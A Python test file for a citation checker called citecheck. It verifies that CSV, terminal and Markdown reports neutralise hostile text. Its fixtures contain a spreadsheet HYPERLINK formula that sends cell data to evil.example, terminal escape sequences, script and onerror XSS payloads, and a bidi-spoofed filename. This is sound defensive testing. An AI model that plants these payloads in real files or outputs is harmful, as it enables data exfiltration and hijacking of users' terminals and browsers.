"""Reports are safe to open: no formula runs in a spreadsheet, no escape sequence reaches the
terminal, no citation text restructures a Markdown page; ordinary text is left as it is."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from rich.console import Console

from citecheck.model import Citation, Discrepancy, Label, Provenance, Record, Verdict
from citecheck.report.csvout import COLUMNS, render_csv
from citecheck.report.markdown import render_markdown
from citecheck.report.safe import csv_cell, markdown_code, markdown_text, terminal_text
from citecheck.report.table import render_table

ORDINARY = [
    "Smith, J., & Doe, A. (2001). A title: with punctuation (and parentheses). Nature, 4, 5-6.",
    "Puchała, Z. — Über die Wärme; 10.1103/PhysRevD.1.1 arXiv:2401.00001 https://example.org/a_b?c=d",
    "Einstein, A. 1905, Ann. Phys. 17, 891 * 2 + 3 = 9 @ 50% 'quoted' \"double\"",
    "名前, 著者 (2020) 日本語のタイトル 123–456",
    "אלף בית (2019) כותרת בעברית",
]
HOSTILE = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "title": "Evil\x1b]0;pwned title\x07 text",
    "clear": "Before\x1b[2J\x1b[H after",
    "colour": "\x1b[31mred\x1b[0m and \x9b1;31mC1 red",
    "script": "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "heading": "# A heading of its own",
    "pipe": "a | b | c",
}


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_text_is_unchanged(text: str) -> None:
    assert terminal_text(text) == text
    assert csv_cell(text) == text
    assert markdown_code(text) == f"`{text}`"
    assert markdown_text(text) == text


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cell_starting_like_a_formula_is_text(start: str) -> None:
    assert csv_cell(start + "1+2") == "'" + start + "1+2"
    assert csv_cell("1" + start + "2") == "1" + start + "2"  # only the first character counts


@pytest.mark.parametrize(("text", "shown"), [
    ("a\x1b]0;title\x07b", "ab"),  # window title (OSC, BEL-terminated)
    ("a\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\b", "alinkb"),  # hyperlink (OSC, ST-terminated)
    ("a\x1b[2Jb", "ab"),  # clear screen
    ("a\x1b[10;20Hb\x1b[1Ac", "abc"),  # cursor moves
    ("a\x1b[1;31mb\x1b[0m", "ab"),  # colours
    ("a\x9b2Jb", "ab"),  # the 8-bit CSI
    ("a\x1bcb", "ab"),  # reset the terminal
    ("a\rb\x08c\x00d\x7fe\x85f", "abcdef"),  # CR, backspace, NUL, DEL, C1
    ("evil\u202egnp.exe \u2066x\u2069", "evilgnp.exe x"),  # bidi override and isolate
    ("line one\nline\ttwo", "line one\nline\ttwo"),  # newline and tab stay
    ("unterminated \x1b]0;title", "unterminated 0;title"),  # no terminator: ESC ] alone goes
])
def test_terminal_text_removes_escape_sequences_and_controls(text: str, shown: str) -> None:
    assert terminal_text(text) == shown


@pytest.mark.parametrize(("text", "literal"), [
    ("# heading", "\\# heading"),
    ("## heading", "\\## heading"),
    ("- item", "\\- item"),
    ("+ item", "\\+ item"),
    ("* item", "\\* item"),
    ("1. item", "1\\. item"),
    ("12) item", "12\\) item"),
    ("> quote", "&gt; quote"),
    ("```python", "\\`\\`\\`python"),
    ("~~~", "\\~~~"),
    ("a | b", "a \\| b"),
    ("[click](http://evil.example)", "\\[click\\](http://evil.example)"),
    ("![img](http://evil.example/x.png)", "!\\[img\\](http://evil.example/x.png)"),
    ("<b>bold</b>", "&lt;b&gt;bold&lt;/b&gt;"),
    ("&lt;script&gt;", "&amp;lt;script&amp;gt;"),
    ("one\n# two\n\n| x |", "one # two \\| x \\|"),
    ("back\\slash", "back\\\\slash"),
])
def test_markdown_text_is_one_literal_line(text: str, literal: str) -> None:
    assert markdown_text(text) == literal


def test_markdown_code_span_holds_backticks() -> None:
    assert markdown_code("a`b") == "``a`b``"
    assert markdown_code("`x`") == "`` `x` ``"


def _hostile_verdicts() -> list[Verdict]:
    out = []
    for index, (name, text) in enumerate(HOSTILE.items()):
        citation = Citation(id=f"{name}-{text}", raw=text,
                            fields=Record(title=text, issued={"date-parts": [[2001]]}),
                            provenance=Provenance(file=f"refs{text}.bib", line=index + 1, key=text, index=index))
        out.append(Verdict(
            citation=citation, label=Label.MAJOR, score=-1.5 if name == "formula" else 40.0, confidence=0.5,
            discrepancies=[Discrepancy(field="title", cited=text, found=text, severity="major")],
            rationale=text, match=Record(title=text), match_source=f"src{text}", matched_by="doi"))
    return out


def test_csv_report_cells_never_start_a_formula() -> None:
    rows = list(csv.DictReader(io.StringIO(render_csv(_hostile_verdicts()))))
    assert len(rows) == len(HOSTILE)
    for row in rows:
        for column in COLUMNS:
            assert not row[column].startswith(("=", "+", "@", "\t", "\r")), (column, row[column])
    formula = rows[0]
    assert formula["citation"] == "'" + HOSTILE["formula"] and formula["rationale"] == "'" + HOSTILE["formula"]
    assert formula["score"] == "-1.50"  # a number citecheck wrote: not a text cell, left as it is
    assert rows[1]["citation"] == HOSTILE["title"]  # text that starts with a letter is untouched


def test_terminal_table_passes_no_escape_sequence() -> None:
    buf = io.StringIO()
    render_table(_hostile_verdicts(), Console(file=buf, width=200, force_terminal=True, color_system="standard"))
    out = buf.getvalue()
    # Rich's own styles are SGR sequences (ESC [ ... m); nothing else may reach the terminal
    leftover = re.sub(r"\x1b\[[0-9;]*m", "", out).replace("\n", "")
    assert leftover.isprintable(), repr([c for c in leftover if not c.isprintable()][:5])
    assert "Evil text" in out and "pwned" not in out and "red and C1 red" in out
    assert "\x1b[2J" not in out and "\x1b[31m" + "red" not in out


def test_markdown_report_keeps_its_structure() -> None:
    verdicts = _hostile_verdicts()
    html = MarkdownIt("commonmark", {"html": True}).enable("table").render(render_markdown(verdicts))
    assert "<script" not in html and "<img" not in html and "<a " not in html
    assert html.count("<h1>") == 1 and html.count("<h3>") == len(verdicts)  # the report's own
    assert html.count("<table>") == 1 and "<pre>" not in html
    assert html.count("<td") == 10  # the label counts' table: five labels, two cells each
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "# A heading of its own" in html and "a | b | c" in html


def test_cli_error_lines_carry_no_markup_or_escape_sequence(tmp_path: Path) -> None:
    from typer.testing import CliRunner

    from citecheck.cli import app

    name = tmp_path / "refs\x1b]0;pwned\x07[link=evil.example]x[/link].bib"
    result = CliRunner().invoke(app, ["check", str(name), "--offline", "-q"])
    assert result.exit_code == 2
    assert "\x1b" not in result.output and "\x07" not in result.output
    assert "refs[link=evil.example]x[/link].bib" in result.output  # shown, never interpreted
